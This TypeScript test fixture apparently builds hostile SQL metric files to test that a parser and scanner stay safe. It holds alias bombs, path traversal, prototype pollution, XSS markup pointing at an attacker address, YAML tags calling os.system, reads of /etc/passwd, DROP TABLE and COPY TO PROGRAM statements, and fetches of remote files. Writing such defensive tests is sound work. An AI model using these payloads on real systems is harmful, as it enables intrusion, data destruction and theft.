/** What a hostile `.levered.sql` file refers to. */
export interface Bait {
  /** The address of whoever wrote it. */
  readonly evil: string;
  /** The id of a metric that the person's organization really has. */
  readonly id: string;
}

type Kind = readonly [name: string, text: (bait: Bait) => string | Uint8Array];

const metric = (front: string, sql = 'SELECT user_id AS a, at AS t FROM x'): string =>
  `/*---\n${front}\ncolumn_mapping: {anonymous_id: a, timestamp: t, reward_type: bool}\n---*/\n${sql}\n`;
const many = (text: string, times: number): string => text.repeat(times);

function aliasBomb(): string {
  const rows = Array.from('bcdefghij', (name, at) => {
    const before = String.fromCharCode(name.charCodeAt(0) - 1);
    return `${name}: &${name} [${many(`*${before},`, 9)}*${before}] # ${at}`;
  });
  return metric(['name: &a [x,x,x,x,x,x,x,x,x]', ...rows].join('\n'));
}

/** Everything that a file could try on a parser, a scanner of SQL, or a reader, when it is only looked at. */
export const hostileDefinitions: readonly Kind[] = [
  ['alias bomb', aliasBomb],
  ['deep flow', () => metric(`name: ${many('[', 20_000)}`)],
  ['deep block', () => metric(Array.from({ length: 800 }, (_, depth) => `${many(' ', depth)}a:`).join('\n'))],
  ['one long line', () => metric('name: long', `SELECT ${many('a,', 400_000)}1`)],
  ['a thousand brackets', () => metric('name: nested', `SELECT ${many('(', 20_000)}1${many(')', 20_000)}`)],
  [
    'a thousand queries',
    () => metric('name: with', `WITH ${many('x AS (SELECT 1),', 5_000)} y AS (SELECT 2) SELECT 3`),
  ],
  ['blanks for a slow expression', () => metric(`name: ${many(' ', 60_000)}x`, `SELECT ${many(' \t', 100_000)}x --`)],
  ['too large', () => metric('name: huge', many('-- padding\n', 130_000))],
  [
    'bidi',
    () => metric('name: "\u202egnp.exe\u2066"', '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 */ SELECT 1 --\u202e'),
  ],
  ['zero width', () => metric('name: "Sign\u200bup\ufeff Conversion"', 'SELECT\u200b 1\u2060 FROM\u00ad x')],
  ['a path as id', () => metric('id: ../../assignment-source\nname: path')],
  ['an escaped path as id', () => metric('id: "%2e%2e%2f%2e%2e%2fadmin"\nname: escaped')],
  ['an address as id', ({ evil }) => metric(`id: ${evil}/api\nname: address`)],
  ["somebody's id", ({ id }) => metric(`id: ${id}\nname: Signup Conversion`, 'DELETE FROM users')],
  ['an id for each environment', ({ id }) => metric(`id: {prod: ${id}, local: ${id}, testing: ${id}}\nname: all`)],
  ['prototype', () => metric('__proto__: {isAdmin: true}\nconstructor: {prototype: 1}\nname: proto\n<<: {a: 1}')],
  [
    'tags',
    () => metric('name: !!js/function "function () { return 1 }"\nkind: !!python/object/apply:os.system ["id"]'),
  ],
  [
    'links',
    () => metric('name: "[x](command:workbench.action.terminal.new) ![](https://levered.invalid/i.png) $(flame)"'),
  ],
  ['markup', ({ evil }) => metric(`name: "<img src=${evil}/i.png onerror=alert(1)><script src=${evil}></script>"`)],
  ['a name of 5,000 characters', () => metric(`name: "${many('n', 5_000)}"`)],
  [
    'secrets',
    () => metric('name: "sk_live_51H8xEXAMPLE"\ntoken: ghp_0123456789abcdefghijklmnopqrstuvwx', "SELECT 'AKIAEXAMPLE'"),
  ],
  [
    'variables',
    () => metric('name: "${env:HOME} ${command:x} {{ env.TOKEN }} <%= 1 %>"', 'SELECT ${input:token} `id` $(id)'),
  ],
  [
    'includes',
    ({ evil }) =>
      metric(
        `name: in\ninclude: /etc/passwd\n$ref: ${evil}/x.json\nextends: ../..`,
        '\\i /etc/passwd\n.read /etc/passwd',
      ),
  ],
  [
    'statements',
    () => metric('name: drop', "DROP TABLE users; COPY x TO PROGRAM 'id'; SELECT pg_sleep(600); ATTACH '/etc/passwd'"),
  ],
  [
    'reads over the net',
    ({ evil }) => metric('name: net', `SELECT * FROM read_csv('${evil}/x.csv'); LOAD httpfs; INSTALL '${evil}'`),
  ],
  ['an assignment source', () => metric('kind: assignment_source\nname: theirs')],
  ['no end of the front matter', () => `/*---\nname: open\n${many('key: value\n', 4_000)}`],
  ['ends of comments', () => metric('name: "*/ SELECT 1 /*"', many('/*', 5_000))],
  ['quotes', () => metric('name: quotes', `SELECT '${many("''", 10_000)} "${many('`', 10_000)} $$ $a$ $b$`)],
  [
    'line ends',
    () =>
      metric('name: ends').replaceAll('\n', '\r\n').replace('\r\n', '\r').replace('SELECT', 'SELECT\u2028\u2029\u0085'),
  ],
  ['NUL', () => metric('name: nul', `${many('-', 600)}\nSELECT \0 1`)],
  ['no UTF-8', () => new Uint8Array([...Buffer.from(metric('name: bytes')), 0xff, 0xfe, 0xc0, 0x80])],
  ['UTF-16', () => Buffer.from(`\ufeff${metric('name: wide')}`, 'utf16le')],
  ['empty', () => ''],
];
